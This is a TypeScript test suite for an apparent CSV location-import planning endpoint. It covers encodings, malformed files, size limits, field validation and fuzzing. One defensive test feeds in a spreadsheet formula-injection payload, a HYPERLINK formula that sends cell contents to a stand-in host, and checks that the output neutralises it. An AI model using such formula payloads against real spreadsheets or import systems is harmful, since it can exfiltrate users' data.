import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDatabase, type TestDatabase } from '../../../local/testing/test-database.ts';
import { createTestRouter, type TestRouter } from '../testing/test-router.ts';
import type { ShownPlanRow } from './shown-plan-row.ts';
import type { ShownPlan } from './shown-plan.ts';

let database: TestDatabase;
let router: TestRouter;

beforeAll(async () => {
  database = await createTestDatabase();
  router = await createTestRouter({ database });
});

afterAll(async () => {
  await router.settle();
  // Whatever was sent: no file is ever half imported, for planning imports nothing.
  const { rows } = await database.pool.query('select count(*)::int as count from locations');
  expect(rows).toEqual([{ count: 0 }]);
  await database.drop();
});

const HEADER = 'Location Name,Address,City,State,Zip Code,Phone,Email,Timezone,Franchise Code';
const line = (given: Partial<Record<'name' | 'address' | 'state' | 'zip' | 'timezone' | 'code', string>> = {}) =>
  [
    given.name ?? 'Otter',
    given.address ?? '1 Main St',
    'Boston',
    given.state ?? 'MA',
    given.zip ?? '02134',
    '(617) 555-0123',
    'otter@example.com',
    given.timezone ?? '',
    given.code ?? 'B-1',
  ].join(',');
const fileOf = (...lines: string[]) => [HEADER, ...lines].join('\r\n');

function post(body: unknown, contentType = 'text/csv'): Promise<Response> {
  return router.send('POST', '/v1/onboarding/plan', { body, headers: { 'content-type': contentType } });
}

async function planOf(body: unknown): Promise<ShownPlan & { readonly items: ShownPlanRow[] }> {
  const response = await post(body);
  expect(response.status).toBe(201);
  const plan = (await response.json()) as ShownPlan;
  const rows = await router.send('GET', `/v1/onboarding/plans/${plan.id}/rows`);
  return { ...plan, items: ((await rows.json()) as { items: ShownPlanRow[] }).items };
}

async function refusalOf(body: unknown) {
  const response = await post(body);
  const { errors } = (await response.json()) as { errors: { row: number; column: string; code: string }[] };
  return { status: response.status, errors: errors.map(({ row, column, code }) => [row, column, code]) };
}

const cellsOf = (errors: ShownPlan['errors']) => errors.map(({ row, column, code }) => [row, column, code]);

describe('a file', () => {
  const accented = fileOf(line({ name: 'Café – Otter' }));
  const utf16le = Buffer.from(accented, 'utf16le');
  it.each([
    ['in UTF-8 with a byte order mark', Buffer.from(`\uFEFF${accented}`)],
    ['in UTF-16 with a byte order mark', Buffer.concat([Buffer.from([0xff, 0xfe]), utf16le])],
    ['in UTF-16 without one', utf16le],
    ['in big-endian UTF-16', Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(utf16le).swap16()])],
    ['with semicolons', Buffer.from(accented.replaceAll(',', ';'))],
    ['with tabs', Buffer.from(accented.replaceAll(',', '\t'))],
  ])('%s is read as it is meant', async (_, bytes) => {
    const plan = await planOf(bytes);
    expect(plan).toMatchObject({ runnable: true, warnings: [], items: [{ row: 2, input: { name: 'Café – Otter' } }] });
  });

  it('in Windows-1252 is read, and every cell with an accent is to be looked at', async () => {
    const bytes = Buffer.from(fileOf(line({ name: 'Caf\u00e9 \u0096 Otter' }), line({ code: 'B-2' })), 'latin1');
    const plan = await planOf(bytes);
    expect(plan).toMatchObject({ runnable: true, items: [{ input: { name: 'Café – Otter' } }, {}] });
    expect(cellsOf(plan.warnings)).toContainEqual([2, 'Location Name', 'encoding_guessed']);
    expect(plan.warningCounts['encoding_guessed']).toBe(1);
  });

  it('with line breaks inside quotes keeps its row numbers', async () => {
    const plan = await planOf(fileOf(line({ address: '"1 Main St\nSuite 2\n"' }), line({ code: 'B-2', state: 'XX' })));
    expect(plan.items[0]?.input?.address).toBe('1 Main St Suite 2');
    expect(cellsOf(plan.errors)).toEqual([[3, 'State', 'unknown_state']]);
  });

  it('with its header twice leaves that row out and says so', async () => {
    const plan = await planOf(fileOf(HEADER, line()));
    expect(plan).toMatchObject({ counts: { total: 1, create: 1 }, items: [{ row: 3 }] });
    expect(cellsOf(plan.warnings)).toEqual([[2, '', 'repeated_header']]);
  });

  it('with more cells than headings in a row rejects that row, and gives it back', async () => {
    const plan = await planOf(fileOf(`${line()},what is this`, line({ code: 'B-2' })));
    expect(plan.counts).toMatchObject({ create: 1, invalid: 1 });
    expect(cellsOf(plan.errors)).toEqual([[2, '', 'too_many_cells']]);
    const csv = await (await router.send('GET', `/v1/onboarding/plans/${plan.id}/errors.csv`)).text();
    expect(csv).toContain('Otter,1 Main St,Boston');
  });

  it.each([
    ['that is empty', '', [1, '', 'empty']],
    ['of a header alone', HEADER, [1, '', 'empty']],
    ['of bytes that say nothing', Buffer.from([0xff, 0xfe]), [1, '', 'empty']],
    ['of 100,001 rows', fileOf(...Array.from({ length: 100_001 }, () => line())), [1, '', 'too_many_rows']],
    ['that is a workbook', Buffer.from('PK\u0003\u0004 workbook'), [1, '', 'not_csv']],
    ['with a quote that never ends', fileOf(line(), '"Otter,1 Main St'), [3, '', 'quote_not_closed']],
    ['with a column twice', `City,${HEADER}\r\nBoston,${line()}`, [1, 'City', 'duplicate_column']],
  ])('%s is refused with its row', async (_, body, error) => {
    expect(await refusalOf(body)).toEqual({ status: 422, errors: [error] });
  });

  it('without the columns that have to be there names each', async () => {
    expect(await refusalOf('Colour,Postcode\r\nred,02134')).toEqual({
      status: 422,
      errors: [
        [1, 'Location Name', 'missing_column'],
        [1, 'Address', 'missing_column'],
        [1, 'City', 'missing_column'],
        [1, 'State', 'missing_column'],
      ],
    });
  });

  it('larger than 16 MiB is refused before it is read', async () => {
    const response = await post('x'.repeat(16 * 1024 * 1024 + 1));
    expect(response.status).toBe(413);
  });

  it('of another kind is refused: no CSV, no form, no JSON; a form without a file; JSON that is none', async () => {
    expect((await post('x', 'application/zip')).status).toBe(415);
    expect((await post('x', 'multipart/form-data; boundary=y')).status).toBe(422);
    expect((await post('{', 'application/json')).status).toBe(400);
    expect((await post('{"rows": 5}', 'application/json')).status).toBe(422);
    const form = new FormData();
    form.set('onInvalid', 'skip');
    expect((await router.send('POST', '/v1/onboarding/plan', { body: form })).status).toBe(422);
  });
});

describe('a cell', () => {
  it('of megabytes is an error of that cell, given back cut', async () => {
    const plan = await planOf(fileOf(line({ name: '😀'.repeat(1_000_000) }), line({ code: 'B-2' })));
    expect(plan.counts).toMatchObject({ create: 1, invalid: 1 });
    expect(cellsOf(plan.errors)).toEqual([[2, 'Location Name', 'too_long']]);
    expect(plan.errors[0]?.value.length).toBeLessThanOrEqual(100);
    const csv = await (await router.send('GET', `/v1/onboarding/plans/${plan.id}/errors.csv`)).text();
    expect(csv.length).toBeLessThan(34_000);
  });

  it('with a formula is an error, and stays inert in what is given back', async () => {
    const formula = '"=HYPERLINK(""http://x.example?""&A1,""Otter"")"';
    const plan = await planOf(fileOf(line({ name: formula, address: '@SUM(A1)', zip: '' })));
    expect(cellsOf(plan.errors)).toEqual([
      [2, 'Location Name', 'formula'],
      [2, 'Zip Code', 'missing'],
    ]);
    const csv = await (await router.send('GET', `/v1/onboarding/plans/${plan.id}/errors.csv`)).text();
    expect(csv).toContain(`"'=HYPERLINK(`);
    expect(csv).toContain(`,'@SUM(A1),`);
    expect(csv).not.toMatch(/(^|[,\n]"?)[=@]/m);
  });

  it('that a spreadsheet has mangled is repaired where that is safe', async () => {
    const plan = await planOf(fileOf(line({ zip: '2134' }), line({ code: 'B-2', state: 'Massachusetts' })));
    expect(plan.items.map(({ input }) => [input?.postalCode, input?.state])).toEqual([
      ['02134', 'MA'],
      ['02134', 'MA'],
    ]);
    expect(plan.warnings).toMatchObject(
      expect.arrayContaining([
        expect.objectContaining({ row: 2, column: 'Zip Code', code: 'postal_code_repaired', suggestion: '02134' }),
      ]),
    );
  });

  it('that contradicts another is an error: state and ZIP, time zone and state, a code that is there twice', async () => {
    const plan = await planOf(
      fileOf(
        line(),
        line({ code: 'b-1' }),
        line({ code: 'B-2', state: 'TX' }),
        line({ code: 'B-3', timezone: 'America/Denver' }),
        line({ code: 'B-4', timezone: 'Eastern' }),
      ),
    );
    expect(cellsOf(plan.errors)).toEqual([
      [3, 'Franchise Code', 'duplicate'],
      [4, 'Zip Code', 'postal_code_not_in_state'],
      [5, 'Timezone', 'timezone_not_in_state'],
      [6, 'Timezone', 'unknown_timezone'],
    ]);
    expect(plan.errors.slice(2).map(({ suggestion }) => suggestion)).toEqual(['America/New_York', 'America/New_York']);
    expect(plan.counts).toMatchObject({ total: 5, create: 1, invalid: 4 });
  });
});

it('a franchise code that would be cut in the middle of a character is an error of its row', async () => {
  const response = await post(fileOf(line({ code: `x${'\u{10000}'.repeat(40)}` })));
  expect(response.status).toBe(201);
  expect(await response.json()).toMatchObject({ counts: { total: 1, invalid: 1 } });
});

it('whatever bytes come, the answer is a plan or a problem, never a failure', async () => {
  const text = fc.string({ unit: 'binary' }).map((cell) => Buffer.from(cell));
  const good = fc
    .constantFrom(HEADER, line(), '\r\n', '"', ',', ';', '\t', '\u0000', '\uFEFF', '😀')
    .map((cell) => Buffer.from(cell));
  const bytes = fc.uint8Array().map((cell) => Buffer.from(cell));
  const encode = fc.constantFrom<BufferEncoding>('utf8', 'utf16le', 'latin1');
  await fc.assert(
    fc.asyncProperty(fc.array(fc.oneof(good, text, bytes)), encode, async (parts, encoding) => {
      const body = Buffer.from(Buffer.concat([Buffer.from(`${HEADER}\r\n`), ...parts]).toString('utf8'), encoding);
      const response = await post(new Uint8Array(body));
      expect([201, 422]).toContain(response.status);
      await response.body?.cancel();
    }),
    { numRuns: 150 },
  );
});
